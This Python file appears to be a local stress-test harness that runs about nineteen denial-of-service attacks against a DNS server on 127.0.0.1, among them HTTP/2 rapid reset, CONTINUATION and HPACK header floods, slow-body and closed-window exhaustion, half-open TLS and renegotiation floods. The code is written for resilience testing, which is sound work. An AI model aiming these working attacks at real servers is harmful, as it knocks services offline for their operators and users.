#!/usr/bin/python3
"""Attackers, each a program of its own that goes on until it is ended.

  attacks.py NAME PORT    one of ATTACKS against a port of 127.0.0.1; WHERE says what must be spoken there

They come from 127.0.0.66 and connect anew whenever the server has had enough.
"""

import contextlib
import itertools
import os
import select
import socket
import ssl
import sys

from client import framed, question
from h2_frames import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RST, SETTINGS, WINDOW,
                       frame, get, post, text)
from tls_records import OldTls, update_keys

SOURCE = ("127.0.0.66", 0)
LARGE = "large.test"  # the name whose answer is long
SMALL = "spoof.test"


def connect(port, timeout_s=2):
    return socket.create_connection(("127.0.0.1", port), timeout=timeout_s, source_address=SOURCE)


def secured(port):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context.wrap_socket(connect(port))


def send_what_fits(connection, data):
    """Sends all, and throws away what comes back; OSError where the server has closed."""
    view = memoryview(data)
    while view:
        readable, writable, _ = select.select([connection], [connection], [], 2)
        if readable and not connection.recv(65536):
            raise ConnectionError("closed")
        if writable:
            view = view[connection.send(view[:65536]):]
        if not readable and not writable:
            raise TimeoutError("the server takes nothing")


def flood(port, begin, pieces):
    """Over HTTP/2 in the clear: `begin`, then what the endless `pieces` gives."""
    with connect(port) as connection:
        connection.sendall(PREFACE + frame(SETTINGS) + begin)
        for piece in pieces:
            send_what_fits(connection, piece)


def streams():
    return itertools.count(1, 2)


def batches(make, size=50):
    """Pieces of `size` frames or requests, made from the numbers of streams."""
    numbers = streams()
    while True:
        yield b"".join(make(next(numbers)) for _ in range(size))


def request(stream, name=SMALL):
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, get(name))


def rapid_reset(port):
    flood(port, b"", batches(lambda stream: request(stream) + frame(RST, 0, stream, b"\0\0\0\x08")))


def empty_frames(port):
    begin = frame(HEADERS, END_HEADERS, 1, post())
    flood(port, begin, itertools.repeat(frame(DATA, 0, 1) * 500))


def continuations(port):
    piece = frame(CONTINUATION, 0, 1, text(b"a", b"b" * 100)) * 100
    flood(port, frame(HEADERS, 0, 1, get(SMALL)), itertools.repeat(piece))


def empty_continuations(port):
    flood(port, frame(HEADERS, 0, 1, get(SMALL)), itertools.repeat(frame(CONTINUATION, 0, 1) * 500))


def pings(port):
    flood(port, b"", itertools.repeat(frame(PING, 0, 0, b"12345678") * 500))


def settings(port):
    flood(port, b"", itertools.repeat(frame(SETTINGS) * 500))


def header_bombs(port):
    """A header goes into the compressor's table, and is then named ten thousand times."""
    big = b"\x40\x01a\x7f\x81\x1e" + b"v" * 4000
    block = get(SMALL) + big + b"\xbe" * 10000
    flood(port, b"", batches(lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, block), 2))


def megabyte_queries(port):
    """A query string of a megabyte, over frames of 16 kB."""
    block = b"\x82\x86\x00\x05:path\x7f\x81\xff\x3f" + b"A" * 1_000_000
    pieces = [block[at:at + 16000] for at in range(0, len(block), 16000)]
    flood(port, frame(HEADERS, END_STREAM, 1, pieces[0]), (frame(CONTINUATION, 0, 1, piece) for piece in pieces[1:]))


def slow_bodies(port):
    """A hundred requests on each of a hundred connections, none of which is ever whole."""
    def begin():
        connection = connect(port)
        connection.sendall(PREFACE + frame(SETTINGS) + b"".join(
            frame(HEADERS, END_HEADERS, stream, post()) + frame(DATA, 0, stream, b"x" * 300)
            for stream in range(1, 200, 2)))
        return connection
    for _ in kept(begin, 100):
        pass


def closed_windows(port):
    """Asks for long answers and never lets them be sent."""
    def begin():
        connection = connect(port)
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0, b"\0\4\0\0\0\0") + b"".join(
            frame(HEADERS, END_STREAM | END_HEADERS, stream, get(LARGE, "TXT")) for stream in range(1, 200, 2)))
        return connection
    for _ in kept(begin, 30):
        pass


def many_requests(port):
    """No misuse of a frame, only very many, on one connection."""
    flood(port, frame(WINDOW, 0, 0, b"\x3f\0\0\0"), batches(request))


def kept(make, count):
    """Holds `count` connections that `make` gives; replaces those that the server has closed."""
    open_ = {}
    while True:
        while len(open_) < count:
            try:
                connection = make()
            except OSError:
                break
            open_[connection.fileno()] = connection
        for ready in select.select(list(open_), [], [], 0.05)[0]:
            with contextlib.suppress(OSError):
                if open_[ready].recv(4096):
                    continue
            open_.pop(ready).close()
        yield open_.values()


def connects(port):
    """Comes and goes, and says nothing."""
    while True:
        connect(port).close()


def half_open(port):
    """Connected, but TLS never begins."""
    for _ in kept(lambda: connect(port), 300):
        pass


def half_hello(port):
    """TLS begins, and stops within the first message."""
    def begin():
        connection = connect(port)
        connection.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(100))
        return connection
    for _ in kept(begin, 300):
        pass


def cut_handshakes(port):
    """The server's part of the handshake is made for nothing."""
    outgoing = ssl.MemoryBIO()
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(ssl.MemoryBIO(), outgoing).do_handshake()
    hello = outgoing.read()
    while True:
        with contextlib.suppress(OSError), connect(port) as connection:
            connection.sendall(hello)
            connection.recv(1)


def key_updates(port):
    with connect(port) as connection:
        update_keys(connection, 1_000_000)


def renegotiations(port):
    connection = OldTls(connect(port))
    while True:
        send_what_fits(connection.socket, b"".join(connection.hello_again() for _ in range(200)))


def slow_readers(port):
    """Asks over TLS for long answers and reads none of them."""
    query = framed(question(LARGE, "TXT").to_wire())

    def ask_much():
        connection = secured(port)
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        connection.settimeout(0.1)
        with contextlib.suppress(TimeoutError):
            connection.sendall(query * 400)
        return connection
    held = []
    while True:
        with contextlib.suppress(OSError):
            held.append(ask_much())
        if len(held) > 60:  # the server has given them up by then
            held.pop(0).close()


def byte_by_byte(port):
    """Many connections over TLS, and each byte of a query is a record of its own."""
    query = framed(question(SMALL).to_wire())
    for connections in kept(lambda: secured(port), 30):
        for byte in query:
            for connection in connections:
                with contextlib.suppress(OSError):
                    connection.send(bytes([byte]))


# By what must listen at the port: "http" in the clear, "tls", or "old": TLS 1.2 with no cipher.
WHERE = {
    rapid_reset: "http", empty_frames: "http", continuations: "http", empty_continuations: "http", pings: "http",
    settings: "http", header_bombs: "http", megabyte_queries: "http", slow_bodies: "http", closed_windows: "http",
    many_requests: "http", connects: "http", half_open: "tls", half_hello: "tls", cut_handshakes: "tls",
    key_updates: "tls", renegotiations: "old", slow_readers: "tls", byte_by_byte: "tls",
}
ATTACKS = {attack.__name__: attack for attack in WHERE}


def give_way():
    """An attacker has a machine of its own: it must not take the processor from its victims."""
    os.nice(19)
    with contextlib.suppress(OSError), open("/proc/self/autogroup", "w", encoding="ascii") as file:
        file.write("19")  # where the kernel weighs sessions, not processes


def main():
    give_way()
    attack, port = ATTACKS[sys.argv[1]], int(sys.argv[2])
    while True:
        with contextlib.suppress(OSError):
            attack(port)


if __name__ == "__main__":
    main()
